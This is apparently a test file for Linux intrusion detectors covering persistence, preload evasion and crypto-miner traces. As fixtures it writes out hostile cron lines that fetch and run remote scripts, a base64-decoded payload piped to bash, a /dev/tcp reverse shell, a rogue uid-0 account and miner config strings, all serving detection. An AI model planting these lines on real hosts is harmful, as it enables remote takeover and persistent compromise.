import { describe, expect, it } from 'vitest';
import type { TelemetryEvent } from '../../model/event.js';
import { evasionLdPreload } from './evasion-ld-preload.js';
import { minerFile } from './miner-file.js';
import { persistDownloadExec } from './persist-download-exec.js';
import { persistSshKey } from './persist-ssh-key.js';
import { persistUid0 } from './persist-uid0.js';
import { persistWritablePath } from './persist-writable-path.js';

function file(kind: string, path: string, content: string, elf = false): TelemetryEvent {
  return {
    kind: 'file',
    time: 0,
    hostId: 'h',
    source: 'test',
    fields: {
      'file.kind': kind,
      'file.path': path,
      'file.content': content,
      'file.elf': elf,
      'file.action': 'present',
    },
  };
}

describe('persist.download-exec', () => {
  it.each([
    '*/5 * * * * root curl -fsSL http://198.51.100.7/a.sh | sh',
    '@reboot wget -q -O- http://x.example/i | bash',
    '* * * * * echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IGJsb2IgdGhhdCBpcyBvdmVyIHNpeHR5IGNoYXJz | base64 -d | bash',
    '0 * * * * curl -o /tmp/.x http://h/x && chmod +x /tmp/.x && /tmp/.x',
    '* * * * * bash -i >& /dev/tcp/203.0.113.4/4444 0>&1',
  ])('flags %s with the line number', (line) => {
    const hit = persistDownloadExec.detect(file('cron', '/etc/cron.d/x', `# header\n${line}\n`));
    expect(hit).toMatchObject({ severity: 'critical', evidence: { lines: [{ line: 2, text: line }] } });
  });
  it('is high, not critical, in login shell files, and quiet for comments and ordinary jobs', () => {
    expect(persistDownloadExec.detect(file('shell-rc', '/root/.bashrc', 'curl http://x | sh'))).toMatchObject(
      { severity: 'high' },
    );
    expect(
      persistDownloadExec.detect(
        file(
          'cron',
          '/etc/crontab',
          '# curl http://x | sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly',
        ),
      ),
    ).toBeNull();
    expect(
      persistDownloadExec.detect(
        file('cron', '/etc/cron.d/certbot', '0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew'),
      ),
    ).toBeNull();
    expect(
      persistDownloadExec.detect(file('authorized_keys', '/root/.ssh/authorized_keys', 'curl x | sh')),
    ).toBeNull();
  });
});

describe('persist.exec-from-writable-path', () => {
  it('flags cron and systemd entries that start programs from writable or hidden places', () => {
    expect(
      persistWritablePath.detect(
        file('cron', '/var/spool/cron/crontabs/root', '@reboot /root/.configrc/a/upd >/dev/null 2>&1'),
      ),
    ).toMatchObject({
      severity: 'critical',
      evidence: { paths: ['/root/.configrc/a/upd'] },
    });
    expect(
      persistWritablePath.detect(
        file('systemd', '/etc/systemd/system/x.service', '[Service]\nExecStart=/dev/shm/.x/kdevtmpfsi'),
      ),
    ).toMatchObject({ severity: 'critical' });
    expect(
      persistWritablePath.detect(file('cron', '/etc/cron.d/x', '*/2 * * * * root /tmp/kinsing')),
    ).toMatchObject({ severity: 'high' });
  });
  it('ignores housekeeping of temporary directories', () => {
    expect(
      persistWritablePath.detect(
        file('cron', '/etc/cron.daily/tmp', '0 3 * * * root find /tmp -mtime +7 -delete'),
      ),
    ).toBeNull();
    expect(
      persistWritablePath.detect(
        file(
          'cron',
          '/etc/cron.d/php',
          '09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean',
        ),
      ),
    ).toBeNull();
  });
});

describe('persist.ssh.known-bad-key', () => {
  it('flags the Outlaw key comment and nothing else', () => {
    expect(
      persistSshKey.detect(
        file('authorized_keys', '/root/.ssh/authorized_keys', 'ssh-rsa AAAAB3Nza mdrfckr\n'),
      ),
    ).toMatchObject({ evidence: { knownFrom: ['Outlaw'], lines: [{ line: 1 }] } });
    expect(
      persistSshKey.detect(
        file('authorized_keys', '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3 ops@bastion\n'),
      ),
    ).toBeNull();
  });
});

describe('persist.uid0-account', () => {
  it('flags a second uid-0 account', () => {
    expect(
      persistUid0.detect(
        file('passwd', '/etc/passwd', 'root:x:0:0::/root:/bin/bash\nsystemd-net:x:0:0::/:/bin/sh\n'),
      ),
    ).toMatchObject({ evidence: { accounts: ['systemd-net'] } });
    expect(
      persistUid0.detect(
        file('passwd', '/etc/passwd', 'root:x:0:0::/root:/bin/bash\nbin:x:2:2::/bin:/usr/sbin/nologin\n'),
      ),
    ).toBeNull();
  });
});

describe('evasion.ld-preload', () => {
  it('flags any preload, critical from a writable place', () => {
    expect(
      evasionLdPreload.detect(
        file('ld-preload', '/etc/ld.so.preload', '/usr/local/lib/libprocesshider.so\n'),
      ),
    ).toMatchObject({ severity: 'high' });
    expect(evasionLdPreload.detect(file('ld-preload', '/etc/ld.so.preload', '/tmp/.x/h.so\n'))).toMatchObject(
      { severity: 'critical' },
    );
    expect(evasionLdPreload.detect(file('ld-preload', '/etc/ld.so.preload', '# nothing\n\n'))).toBeNull();
  });
});

describe('miner.file', () => {
  it('flags an XMRig config and a miner binary, not other JSON or binaries', () => {
    expect(
      minerFile.detect(
        file(
          'writable-dir',
          '/tmp/.x/config.json',
          '{"pools":[{"url":"pool:3333"}],"donate-level":1,"randomx":{}}',
        ),
      ),
    ).toMatchObject({ severity: 'critical' });
    expect(
      minerFile.detect(
        file('writable-dir', '/tmp/x', '\u007fELF...stratum+tcp://%s ... donate.v2.xmrig.com', true),
      ),
    ).toMatchObject({ title: 'Miner binary in a world-writable directory' });
    expect(
      minerFile.detect(file('writable-dir', '/tmp/package.json', '{"name":"x","pools":"no"}')),
    ).toBeNull();
    expect(minerFile.detect(file('writable-dir', '/tmp/tool', '\u007fELF... ordinary', true))).toBeNull();
  });
});
